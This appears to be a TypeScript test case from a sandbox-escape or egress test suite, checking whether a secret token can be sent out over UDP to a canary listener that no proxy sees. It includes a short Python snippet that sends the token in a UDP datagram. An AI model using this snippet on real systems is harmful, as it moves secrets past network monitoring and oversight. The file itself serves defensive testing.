import { setTimeout as sleep } from 'node:timers/promises'
import { datagramCanary } from '../support/canaries.ts'
import { commandCase } from '../support/command-scene.ts'

export const attack = commandCase({
  mechanism: 'network: UDP',
  gain: 'a way out for secrets that no proxy sees',
  async attempt(scene) {
    const canary = await datagramCanary(scene)
    await scene.run(await scene.python(send, canary.host, canary.port, scene.token))
    await sleep(50)
    return canary.heard.some((text) => text.includes(scene.token))
  },
})

const send = `
import socket, sys
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(sys.argv[3].encode(), (sys.argv[1], int(sys.argv[2])))
`
